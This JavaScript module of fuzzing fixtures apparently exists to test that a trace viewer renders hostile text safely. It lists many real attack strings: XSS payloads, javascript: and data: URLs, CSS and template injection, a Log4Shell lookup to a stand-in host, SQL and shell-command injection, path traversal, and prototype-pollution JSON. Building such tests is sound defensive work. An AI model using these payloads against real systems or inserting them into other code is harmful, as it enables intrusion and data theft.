// What a trace may say to harm the page that shows it, by kind. `TRAP` is an address that nothing may ever ask for; whatever runs calls
// `trapped()`, which no page has: if it ran, the page had an uncaught error.
export const TRAP = 'https://trap.invalid/';

const run = 'alert(1);trapped()';
const C = (code) => String.fromCodePoint(code);

const html = [
  `<script>${run}</script>`,
  `<script src="${TRAP}a.js"></script>`,
  `</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror='${run}'>`,
  `<img src="${TRAP}b.png" srcset="${TRAP}c.png 2x" onerror="${run}" onload="${run}">`,
  `<IMG SRC=javascript:${run}>`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<svg><use href="${TRAP}d.svg#x"/><image href="${TRAP}e.png"/><foreignObject><iframe src="${TRAP}"></iframe></foreignObject></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:${run}"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${TRAP}f"></object><embed src="${TRAP}g"><applet code=x>`,
  `<link rel=stylesheet href="${TRAP}h.css"><link rel=prefetch href="${TRAP}i"><link rel=dns-prefetch href="${TRAP}">`,
  `<style>@import "${TRAP}j.css"; * { display: none !important; background: url(${TRAP}k) }</style>`,
  `<base href="${TRAP}"><meta http-equiv=refresh content="0;url=${TRAP}">`,
  `<form action="${TRAP}" id=x><input name=nodeType autofocus onfocus="${run}"><button formaction="javascript:${run}">go</button></form>`,
  `<a href="javascript:${run}" onclick="${run}" style="position:fixed;inset:0;z-index:99999">x</a>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<video autoplay src="${TRAP}l" onloadstart="${run}"></video><audio src=x onerror="${run}">`,
  `<body onload="${run}" background="${TRAP}m"><marquee onstart="${run}">`,
  `<template><script>${run}</script></template><slot name=x></slot>`,
  `<div id="crewscope" name="body" class="cs-root cs-panic" part="root" data-state="failed">clobbered</div>`,
  `<img name=getElementById><img id=attributes><a id=defaultView name=location href="javascript:${run}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><script>${run}</script>--><![CDATA[<script>${run}</script>]]><?xml-stylesheet href="${TRAP}n"?>`,
  `<xss onpointerrawupdate=${run} tabindex=1 id=x autofocus onfocus=${run} style=animation-name:x onanimationstart=${run}>`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62; &#x3C;svg/onload=${run}&#x3E; &NotALetter; &#0; &#xFFFFFFFF;`,
  `<scr\0ipt>${run}</scr\0ipt><\u0000img src=x onerror=${run}>`,
  `%3Cscript%3E${run}%3C/script%3E \\u003cscript\\u003e${run} \\x3cscript>${run}`,
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' style='background:url(${TRAP}o)' onmouseenter='${run}`,
  `\`-${run}-\``,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` \u0001javascript:${run}`,
  `java\nscript:${run}`,
  `java\tscript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `&#106;avascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><script>${run}</script></svg>`,
  `data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=`,
  `blob:${TRAP}12345678-1234-1234-1234-123456789abc`,
  `file:///etc/passwd`,
  `//trap.invalid/p`,
  `\\\\trap.invalid\\share`,
  `https://crewai.com@trap.invalid/`,
  `http://[::1]:1/`,
  `mailto:a@trap.invalid?subject=x&body=<script>${run}</script>`,
  `about:blank`, `view-source:${TRAP}`, `intent://x#Intent;scheme=http;end`, `ws://trap.invalid/`,
];

const markdown = [
  ...addresses.map((address) => `[click me](${address})`),
  ...addresses.slice(0, 12).map((address) => `![picture](${address})`),
  `![](${TRAP}q.png)`, `![x](${TRAP}r.png "title\\" onload=${run}")`, `[![x](${TRAP}s.png)](javascript:${run})`,
  `<javascript:${run}>`, `<${TRAP}t>`, `[x](<javascript:${run}>)`, `[x](  javascript:${run} )`,
  `[x][y]\n\n[y]: javascript:${run} "z"`, `![x][y]\n\n[y]: ${TRAP}u.png`,
  `[https://crewai.com](${TRAP})`, `[x](${TRAP} '"><script>${run}</script>')`, `[\u202ehttps://moc.iawerc](${TRAP})`,
  `# <img src=x onerror=${run}>\n\n> <script>${run}</script>\n\n\`\`\`html\n<script>${run}</script>\n\`\`\`\n`,
  `\`\`\`"><script>${run}</script>\nx\n\`\`\`\n\`<script>${run}</script>\``,
  `|<b>a</b>|[x](javascript:${run})|\n|-|-|\n|<img src=x onerror=${run}>|![x](${TRAP}v.png)|\n`,
  `- [x] <input type=checkbox onclick=${run}>\n- [ ] \\<script>\n1. ![x](${TRAP}w.png)\n999999999999999999999. x\n`,
  `<details><summary onclick=${run}>x</summary>\n\n**bold**\n\n</details>`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)![y](data:image/png;base64,iVBORw0KGgo=)`,
  `$\\href{javascript:${run}}{x}$ \\input{/etc/passwd} $$\\unicode{<img src=x onerror=${run}>}$$`,
  `www.trap.invalid javascript:${run} ftp://trap.invalid/x https://trap.invalid/?a=<script>`,
  `${'> '.repeat(400)}deep`, `${'- '.repeat(400)}deep`, `${'*_'.repeat(600)}x${'_*'.repeat(600)}`, `${'['.repeat(2000)}x${'](a)'.repeat(2000)}`,
  `${'![['.repeat(700)}`, `${'`'.repeat(3000)}x`, `${'<'.repeat(2000)}`, `${'|a'.repeat(800)}|\n${'|-'.repeat(800)}|\n${'|b'.repeat(800)}|`,
  `${'a\n===\n'.repeat(300)}`, `${'&#x41;'.repeat(800)}`,
];

const styles = [
  `} * { display: none !important } :host { display: none } {`,
  `color: red; background: url(${TRAP}x.png)`,
  `expression(${run}); -moz-binding: url(${TRAP}y.xml#x); behavior: url(${TRAP}z)`,
  `@import url(${TRAP}1.css);`,
  `var(--cs-bg); --cs-bg: url(${TRAP}2); inherit; 100vw; position:fixed`,
  `</style><style>*{display:none}`,
  `x" class="cs-drop-zone" style="position:fixed;inset:0`,
];

const templates = [
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= alert(1) %>', '#{alert(1)}', '{% debug %}', '{{7*7}}', '[[7*7]]', '@{7*7}', '*{7*7}', '${jndi:ldap://trap.invalid/a}',
  "'; DROP TABLE spans; --", '"; cat /etc/passwd #', '$(touch trapped)', '`touch trapped`', '../../../../etc/passwd', 'C:\\..\\..\\CON', '=HYPERLINK("https://trap.invalid","x")', '@SUM(1+1)*cmd|x', '%s%n%x%p', '%00', '\\0', 'undefined', 'null', 'NaN', '[object Object]', 'true', '-0', '1e999',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'innerHTML', 'length', 'then',
];

const terminal = [
  '\u001b[31mred\u001b[0m', '\u001b[2J\u001b[H', '\u001b]8;;https://trap.invalid\u0007link\u001b]8;;\u0007', '\u001b]0;title\u0007', '\u001b]52;c;YWxlcnQ=\u0007', '\u009b31m', '\b\b\b\bhidden', '\r\roverwritten', '\u0007\u0007', '\u000b\u000c\u0085',
];

const letters = [
  '\u202egnp.exe\u202c', '\u2066\u2067\u2068x\u2069\u2069\u2069', '\u200b\u200c\u200d\u2060\ufeff', '\u061c\u200e\u200f', 'a\u0000b\u0000', 'se\u00adcret', 'pаypal \u0440\u0430ypal', 'ｃｒｅｗａｉ', 'İıſK', 'ﷺ'.repeat(60), 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  `e${'\u0301'.repeat(3000)}`, '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿', `${C(0xe0068)}${C(0xe0069)}${C(0xe0064)}${C(0xe007f)}`, '\ud800', '\udfff\ud800', 'x\udc00y', '\ufffe\uffff', C(0x10ffff), '\u2028\u2029', '𒐫'.repeat(50), '\u1160\u115f\u3164\uffa0', '\u180e\u2800', 'مرحبا \u202bשלום', '\ufff9a\ufffab\ufffb', `${'\u200b'.repeat(5000)}x`, `${'\u202e'.repeat(500)}`,
];

const long = [
  'x'.repeat(60_000), 'word '.repeat(12_000), `${'\n'.repeat(8_000)}`, `${'<b>'.repeat(8_000)}`, '😀'.repeat(6_000), `https://trap.invalid/${'a'.repeat(30_000)}`, `${'a.'.repeat(10_000)}`, 'W'.repeat(4_000), '-'.repeat(20_000),
];

const json = [
  `${'['.repeat(6_000)}${']'.repeat(6_000)}`, `${'{"a":'.repeat(3_000)}1${'}'.repeat(3_000)}`, `${'['.repeat(6_000)}`,
  `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`, `{"a":1,"a":2,"a":{"a":[]}}`,
  `{"n":[1e999,-1e999,NaN,Infinity,-Infinity,1e-999,123456789012345678901234567890,0.1e1,-0]}`, `[${'1,'.repeat(20_000)}1]`, `{${Array.from({ length: 3_000 }, (_, at) => `"k${at}":${at}`).join(',')}}`,
  `{"role":"<img src=x onerror=${run}>","content":"<script>${run}</script>"}`,
  `[{"role":"user","content":[{"type":"image_url","image_url":{"url":"${TRAP}3.png"}},{"type":"image_url","image_url":{"url":"data:image/svg+xml,<svg onload=${run}>"}}]}]`,
  `[{"role":"assistant","content":null,"tool_calls":[{"id":"\\"><script>","type":"function","function":{"name":"<img src=x onerror=${run}>","arguments":"{\\"a\\":\\"<svg onload=${run}>\\"}"}}]}]`,
  `[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/svg+xml\\" onload=\\"${run}","data":"PHN2Zz4="}}]},{"role":"\\u202etool","content":"\\u0000"}]`,
  `{"raw":"<script>${run}</script>","pydantic":null,"json_dict":{"<img src=x onerror=${run}>":"</script>"},"tasks_output":[]}`,
  `"a string in a string: \\"<script>${run}</script>\\""`, `{"":"","\\u0000":"\\u0000","\\ud800":"\\ud800"}`, `{"a":`, `\ufeff{"a":1}`,
];

/** Every string with the kind it is of. */
export const STRINGS = Object.entries({ html, addresses, markdown, styles, templates, terminal, letters, long, json })
  .flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));

/** Values that stand in the place of a number, as they are written in the file. */
export const NUMBERS = ['1e999', '-1e999', 'NaN', 'Infinity', '-Infinity', '-1', '-0', '0.1', '9007199254740993', '18446744073709551616', '123456789012345678901234567890123456789', '1e-400', 'null', 'true', '"12"', '"x"', '[]', '{}', '"1e9"', '-9223372036854775809'];

/** Names of files. */
export const NAMES = ['<img src=x onerror=alert(1)>.jsonl', '\u202elnosj.exe', `${'n'.repeat(220)}.json`, '.."><script>alert(1)<!--.json', '__proto__', 'a\u200b\nb.json'];
